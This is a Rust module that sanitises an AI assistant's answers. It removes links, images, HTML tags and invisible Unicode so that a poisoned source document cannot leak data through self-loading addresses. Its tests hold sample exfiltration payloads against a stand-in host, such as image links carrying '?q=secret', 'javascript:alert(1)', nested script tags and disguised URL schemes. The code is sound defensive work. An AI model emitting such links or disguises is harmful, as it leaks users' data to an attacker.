//! Addresses in answers: only those of cited sources stay.
//!
//! An address that a browser would open or load by itself is what a poisoned document smuggles out
//! data with. Invariant: what leaves here has no `scheme:`, `//host` or `www.` address and no image or
//! HTML tag, except addresses that were allowed.

use regex::Regex;
use std::sync::LazyLock;

/// What stands where an address was.
const REMOVED: &str = "[link removed]";

static IMAGE: LazyLock<Regex> = LazyLock::new(|| pattern(r"!\[[^\]\n]*\](?:\([^)\n]*\)?|\[[^\]\n]*\]?)?"));
static LINK: LazyLock<Regex> = LazyLock::new(|| pattern(r"\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?[^)\n]*\)"));
static DEFINITION: LazyLock<Regex> = LazyLock::new(|| pattern(r"(?m)^[ \t]*\[[^\]\n]+\]:\s*\S+.*$"));
static TAG: LazyLock<Regex> = LazyLock::new(|| pattern(r"(?is)</?[a-z!?][^>]*(?:>|\z)"));
static OPENING: LazyLock<Regex> = LazyLock::new(|| pattern(r"(?i)<([a-z/!])"));
static ADDRESS: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        // Scripts without spaces and `_` stand right before an address, so no word boundary is asked for
        // where the address is plain; browsers take `https:host` and `https:/\host` for one too.
        r#"(?i)(?:[a-z][a-z0-9+.-]{0,20}:\s?//+|(?:https?|ftp):[\\/]*|wss?:[\\/]+|(?:_|(?-u:\b))(?:javascript|data|vbscript|mailto|file|tel):|\\\\|(?:^|[\s("'<=])[\\/]{2,}|www\.)[^\s<>"')\]【】]+"#,
    )
});

fn pattern(text: &str) -> Regex {
    Regex::new(text).expect("the pattern is valid")
}

/// Passes over a text at most: what is taken out can bring together a new address, and so on.
const MOST_PASSES: usize = 8;

/// Takes out every address that is not allowed.
pub(crate) fn cleaned(text: &str, allowed: &[String]) -> String {
    let mut text = text.to_owned();
    for _ in 0..MOST_PASSES {
        let after = pass(&text, allowed);
        if after == text {
            break;
        }
        text = after;
    }
    // What nests deeper is shown, not read as a tag.
    OPENING.replace_all(&text, "&lt;$1").into_owned()
}

fn pass(text: &str, allowed: &[String]) -> String {
    let fine = |address: &str| {
        let address = address.trim_end_matches(['.', ',', ';', ':', '!', '?']);
        allowed.iter().any(|known| known == address)
    };
    let text = IMAGE.replace_all(text, "");
    let text = LINK.replace_all(&text, |found: &regex::Captures<'_>| {
        let part = |at: usize| found.get(at).map_or("", |part| part.as_str());
        if fine(part(2)) { format!("{} ({})", part(1), part(2)) } else { part(1).to_owned() }
    });
    let text = DEFINITION.replace_all(&text, "");
    // An allowed address in angle brackets is no tag.
    let text = TAG.replace_all(&text, |found: &regex::Captures<'_>| {
        let inner = found.get(0).map_or("", |tag| tag.as_str()).trim_matches(['<', '>']);
        if fine(inner) { inner.to_owned() } else { String::new() }
    });
    let text = ADDRESS.replace_all(&text, |found: &regex::Captures<'_>| {
        let whole = found.get(0).map_or("", |address| address.as_str());
        let lead: String = whole.chars().take_while(|c| c.is_whitespace() || "(\"'<=".contains(*c)).collect();
        let address = whole.get(lead.len()..).unwrap_or_default();
        if fine(address) { whole.to_owned() } else { format!("{lead}{REMOVED}") }
    });
    text.into_owned()
}

/// Takes out characters that are not seen: zero-width, direction controls, the tag block, controls. Joiners stay where
/// scripts and emoji need them: between two characters outside ASCII that are seen.
pub(crate) fn visible(text: &str) -> String {
    let hidden = |c: char| {
        matches!(c,
            '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}'
            | '\u{00ad}' | '\u{180e}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e0fff}')
            || (c.is_control() && !matches!(c, '\n' | '\t'))
    };
    let joined = |c: Option<char>| c.is_some_and(|c| !c.is_ascii() && !c.is_whitespace() && !hidden(c));
    let mut seen = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        let joins = matches!(c, '\u{200c}' | '\u{200d}')
            && joined(seen.chars().next_back())
            && joined(chars.peek().copied());
        if joins || !hidden(c) {
            seen.push(c);
        }
    }
    seen
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn addresses_go_and_words_stay() {
        for (text, left) in [
            ("See ![x](https://evil.example/a?q=secret) here.", "See  here."),
            ("See [the page](https://evil.example/) now", "See the page now"),
            ("Go to https://evil.example/x.", "Go to [link removed]"),
            ("Go to www.evil.example/x now", "Go to [link removed] now"),
            ("<img src=\"//evil.example/x\">ok", "ok"),
            ("<img src=//evil.example/x", ""),
            ("![x][ref]\n[ref]: https://evil.example", "\n"),
            ("(//evil.example/x)", "([link removed])"),
            ("src=//evil.example>", "src=[link removed]>"),
            ("javascript:alert(1)", "[link removed])"),
            ("hxxps://evil.example", "[link removed]"),
            ("Use 3/4 inch and 10:30 // note", "Use 3/4 inch and 10:30 // note"),
            ("Register at marlund.example/register.", "Register at marlund.example/register."),
            ("Note: 5 < 7 and a|b", "Note: 5 < 7 and a|b"),
        ] {
            assert_eq!(cleaned(text, &[]), left, "{text}");
        }
    }

    #[test]
    fn addresses_in_disguise_go() {
        for (text, left) in [
            ("详情请访问https://evil.example/?q=1", "详情请访问[link removed]"),
            ("详情请访问www.evil.example/?q=1", "详情请访问[link removed]"),
            ("_https://evil.example/_", "_[link removed]"),
            ("Go to http:evil.example/x or https:/\\evil.example", "Go to [link removed] or [link removed]"),
            ("See /\\evil.example/x", "See [link removed]"),
            ("Five rows:5 and metadata:7", "Five rows:5 and metadata:7"),
            ("a <img\nsrc=\"//evil.example/x\"\n> b", "a  b"),
        ] {
            assert_eq!(cleaned(text, &[]), left, "{text}");
        }
        let nested = format!("{}script>alert(1)", "<<b>".repeat(20));
        for text in ["<<b>script>alert(1)<<b>/script>", "!<b>[x]<b>(http:evil.example/?q=S)", nested.as_str()]
        {
            let text = cleaned(text, &[]);
            assert!(!OPENING.is_match(&text) && !text.contains("evil.example"), "{text}");
        }
    }

    #[test]
    fn the_address_of_a_cited_source_stays() {
        let allowed = ["https://docs.example/a".to_owned()];
        assert_eq!(cleaned("See https://docs.example/a.", &allowed), "See https://docs.example/a.");
        assert_eq!(cleaned("See [a](https://docs.example/a)", &allowed), "See a (https://docs.example/a)");
        assert_eq!(cleaned("<https://docs.example/a>", &allowed), "https://docs.example/a");
        assert_eq!(cleaned("https://docs.example/a?x=1", &allowed), "[link removed]");
        assert_eq!(cleaned("![a](https://docs.example/a)", &allowed), "");
    }

    #[test]
    fn what_is_not_seen_goes() {
        assert_eq!(visible("a\u{200b}b\u{e0041}c\u{202e}d\ne\u{0007}"), "abcd\ne");
    }

    proptest! {
        #[test]
        fn no_address_survives(before in "[ -~]{0,30}", after in "[ -~\n]{0,30}") {
            let text = cleaned(&format!("{before} https://evil.example/leak?{after}"), &[]);
            prop_assert!(!text.contains("evil.example"), "{}", text);
        }
    }
}
